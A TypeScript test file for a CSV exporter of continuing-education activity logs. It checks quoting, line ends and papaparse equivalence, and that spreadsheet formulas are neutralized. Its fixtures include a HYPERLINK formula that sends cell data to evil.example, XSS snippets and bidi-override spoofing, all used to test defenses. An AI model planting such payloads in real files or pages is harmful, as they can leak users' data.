import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { activitiesToCsv, CSV_COLUMNS, CSV_HEADER, csvFileName, CsvInOrder, csvLines } from '../../lib/export/csv';
import { activitySchema, type Activity, type Credit } from '../../lib/model/schema';
import { syntheticActivities } from '../../scripts/bench/log-data';
import { draft } from '../support/helpers';

function activity(overrides: Partial<Activity> = {}): Activity {
  return {
    ...draft(),
    id: 'a1',
    capturedBy: 'detected',
    createdAt: 1,
    updatedAt: 1,
    dedupKey: 'k',
    format: 'online',
    ...overrides,
  };
}

function parse(csv: string) {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  return Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true });
}

describe('activitiesToCsv', () => {
  it('writes the header of the contract, CRLF line ends and one row per credit', () => {
    const csv = activitiesToCsv([
      activity({
        credits: [
          { kind: 'CEC', amount: 1, unit: 'CEU', body: 'nsca', hours: 10 },
          { kind: 'CEC', amount: 10, unit: 'CEC', body: 'acsm', hours: 10 },
        ],
      }),
    ]);
    expect(csv.split('\r\n')[0]).toBe(`\uFEFF${CSV_COLUMNS.join(',')}`);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/\n/);
    const { data, meta } = parse(csv);
    expect(meta.fields).toEqual([...CSV_COLUMNS]);
    expect(data.map((r) => [r.certifying_body, r.amount, r.unit, r.contact_hours, r.credit_kind])).toEqual([
      ['nsca', '1', 'CEU', '10', 'CEC'],
      ['acsm', '10', 'CEC', '10', 'CEC'],
    ]);
    expect(data[0]).toMatchObject({
      activity_id: 'a1',
      completed_on: '2026-09-14',
      provider: 'ace',
      course_code: 'CEP251107',
      format: 'online',
    });
  });

  it('writes one row with empty credit columns for an activity without credits, and decimals with a point', () => {
    const { data } = parse(
      activitiesToCsv([
        activity({ credits: [] }),
        activity({ id: 'a2', credits: [{ kind: 'CEU', amount: 0.15, unit: 'CEU', hours: 1.5 }] }),
      ]),
    );
    expect(data).toHaveLength(2);
    expect(data[0]).toMatchObject({ credit_kind: '', amount: '', unit: '', certifying_body: '', contact_hours: '' });
    expect(data[1]).toMatchObject({ amount: '0.15', contact_hours: '1.5' });
  });

  it('keeps commas, quotes, line breaks and non-ASCII text intact', () => {
    const title = 'Pilates, "Core" & Balance\nLevel 2 – Übungen 日本語 🏊';
    const { data } = parse(activitiesToCsv([activity({ title, notes: 'line1\r\nline2' })]));
    expect(data[0].title).toBe(title);
    expect(data[0].notes).toBe('line1\r\nline2');
  });

  it('neutralizes cells a spreadsheet would run as a formula, even across a line break', () => {
    const cells = ['=HYPERLINK("http://x","y")', '+1+2', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd', '=1\n+2'];
    const { data } = parse(activitiesToCsv(cells.map((title, i) => activity({ id: `a${i}`, title }))));
    expect(data.map((r) => r.title)).toEqual(cells.map((c) => `'${c}`));
  });
});

describe('hostile page text in the CSV', () => {
  /** As the log holds it: parsed by the schema, as every write is. */
  const hostile = activitySchema.parse(
    activity({
      title:
        '=HYPERLINK("https://evil.example/?c="&A1,"Open") <img src=x onerror="alert(1)"> \u202efdp.exe\u202c\u0007 Core…',
      organizer: '@SUM(1+1)\u0000',
      provider: undefined,
      courseCode: '+CEP\u001b1',
      credits: [{ kind: 'CEU', amount: 1, unit: '-1+1\u0085', hours: 10 }],
      notes: '-2+3\tcmd\r\nline 2, "quoted" <script>alert(1)</script>\u0000\u2066',
    }),
  );
  const rtl = activity({ id: 'a2', title: 'تمارين المقاومة\u200f · אימון 💪🏽 🏋️‍♀️', notes: 'Individual’s “Why”' });

  it('writes no control character but the line breaks and tabs of notes: the schema removed them before the log held them', () => {
    const csv = activitiesToCsv([hostile, rtl]);
    // eslint-disable-next-line no-control-regex -- looking for control characters is the point
    expect(csv.replace(/[\r\n\t]/g, '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(csv).toContain('\tcmd\r\nline 2');
  });

  it('neutralizes every cell a spreadsheet would run, and reads back as stored through a CSV parser', () => {
    const { data, errors } = parse(activitiesToCsv([hostile, rtl]));
    expect(errors).toEqual([]);
    expect(data).toHaveLength(2);
    expect(data[0]).toMatchObject({
      title: `'${hostile.title}`,
      provider: `'${hostile.organizer}`,
      course_code: `'${hostile.courseCode}`,
      unit: `'${hostile.credits[0].unit}`,
      notes: `'${hostile.notes}`,
    });
    expect(hostile.title).toBe(
      '=HYPERLINK("https://evil.example/?c="&A1,"Open") <img src=x onerror="alert(1)"> fdp.exe Core…',
    );
    expect(data[1]).toMatchObject({ title: rtl.title, notes: rtl.notes });
  });
});

describe('csvLines', () => {
  it('written a page at a time after the header, gives the same file as the one-piece export', () => {
    const many = Array.from({ length: 25 }, (_, i) =>
      activity({
        id: `a${i}`,
        title: i % 3 ? `Course ${i}` : `=Course, "${i}"`,
        credits: i % 2 ? [] : draft().credits,
      }),
    );
    const pages = [many.slice(0, 7), many.slice(7, 14), [], many.slice(14)];
    expect(CSV_HEADER + pages.map(csvLines).join('')).toBe(activitiesToCsv(many));
    expect(parse(activitiesToCsv(many)).data.map((r) => r.activity_id)).toEqual(many.map((a) => a.id));
  });
});

/** The file as papaparse's unparse writes it, from one object per row: what the export wrote before it wrote its lines itself. */
function papaparseCsv(activities: readonly Activity[]): string {
  const rows = activities.flatMap((a) =>
    (a.credits.length === 0 ? [undefined] : a.credits).map((c: Credit | undefined) => ({
      activity_id: a.id,
      completed_on: a.completedOn,
      title: a.title,
      provider: a.provider ?? a.organizer ?? '',
      credit_kind: c?.kind ?? '',
      amount: c ? String(c.amount) : '',
      unit: c?.unit ?? '',
      certifying_body: c?.body ?? '',
      contact_hours: c ? String(c.hours) : '',
      course_code: a.courseCode ?? '',
      format: a.format ?? '',
      source_url: a.sourceUrl ?? '',
      certificate_url: a.certificateUrl ?? '',
      notes: a.notes ?? '',
    })),
  );
  const lines =
    rows.length === 0
      ? ''
      : `${Papa.unparse(rows, { columns: [...CSV_COLUMNS], header: false, newline: '\r\n', escapeFormulae: /^[=+\-@\t\r]/ })}\r\n`;
  return CSV_HEADER + lines;
}

describe('the CSV writer', () => {
  it('writes byte for byte what papaparse writes, for a large synthetic log', () => {
    const log = syntheticActivities(2000);
    expect(activitiesToCsv(log)).toBe(papaparseCsv(log));
  });

  it('quotes and neutralizes any text exactly as papaparse does', () => {
    // Text made of the characters that matter: formula starts, quotes, separators, line breaks, spaces, a byte-order mark.
    const text = fc.string({
      unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ' ', '\uFEFF', "'", 'a', 'é', '日', '💪'),
      maxLength: 8,
    });
    const credit = fc.record({
      kind: fc.constantFrom('CEC' as const, 'CEU' as const),
      amount: fc.double({ min: 0.01, max: 100, noNaN: true }),
      unit: text,
      body: fc.option(fc.constant('ace' as const), { nil: undefined }),
      hours: fc.double({ min: 0, max: 1000, noNaN: true }),
    });
    const anActivity = fc
      .record({
        id: text,
        title: text,
        organizer: text,
        courseCode: fc.option(text, { nil: null }),
        sourceUrl: fc.option(text, { nil: null }),
        certificateUrl: fc.option(text, { nil: null }),
        notes: fc.option(text, { nil: undefined }),
        credits: fc.array(credit, { maxLength: 3 }),
      })
      .map((fields) => activity({ ...fields, provider: undefined }));
    fc.assert(
      fc.property(fc.array(anActivity, { maxLength: 5 }), (activities) => {
        expect(activitiesToCsv(activities)).toBe(papaparseCsv(activities));
      }),
      { numRuns: 500 },
    );
  });
});

describe('CsvInOrder', () => {
  it('puts activities that come in any order in the place of their id, leaving out the ones not asked for and the ids none came for', () => {
    const many = syntheticActivities(30);
    const csv = new CsvInOrder([...[...many].reverse(), { id: 'deleted-meanwhile' }]);
    const shuffled = [
      ...many.slice(10, 20),
      { ...many[0], id: 'added-meanwhile' },
      ...many.slice(20),
      ...many.slice(0, 10),
    ];
    csv.add(shuffled.slice(0, 15));
    csv.add([]);
    csv.add(shuffled.slice(15));
    const pieces = [...csv.batches(7)];
    expect(pieces).toHaveLength(5);
    expect(CSV_HEADER + pieces.join('')).toBe(activitiesToCsv([...many].reverse()));
  });
});

describe('csvFileName', () => {
  it('names the file after the local date', () => {
    expect(csvFileName(new Date(2026, 0, 5, 23, 59))).toBe('ce-tally-2026-01-05.csv');
  });
});

describe('requirement categories in the CSV', () => {
  it("writes the contract's header with category last, and a split credit as one row per category", () => {
    expect(CSV_HEADER).toBe(
      '\uFEFFactivity_id,completed_on,title,provider,credit_kind,amount,unit,certifying_body,contact_hours,course_code,format,source_url,certificate_url,notes,category\r\n',
    );
    const csv = activitiesToCsv([
      activity({
        credits: [
          {
            kind: 'CEC',
            amount: 8,
            unit: 'PDU',
            body: 'pmi',
            hours: 8,
            categories: [
              { id: 'power-skills', amount: 5 },
              { id: 'business-acumen', amount: 3 },
            ],
          },
          { kind: 'CEC', amount: 0.5, unit: 'CEU', body: 'nsca', hours: 5, categories: [{ id: 'A', amount: 0.5 }] },
          { kind: 'CEC', amount: 0.2, unit: 'CEC', body: 'ace', hours: 2 },
        ],
      }),
      activity({ id: 'a2', credits: [] }),
    ]);
    const { data } = parse(csv);
    expect(data.map((r) => [r.activity_id, r.certifying_body, r.amount, r.contact_hours, r.category])).toEqual([
      ['a1', 'pmi', '5', '5', 'power-skills'],
      ['a1', 'pmi', '3', '3', 'business-acumen'],
      ['a1', 'nsca', '0.5', '5', 'A'],
      ['a1', 'ace', '0.2', '2', ''],
      ['a2', '', '', '', ''],
    ]);
  });
});
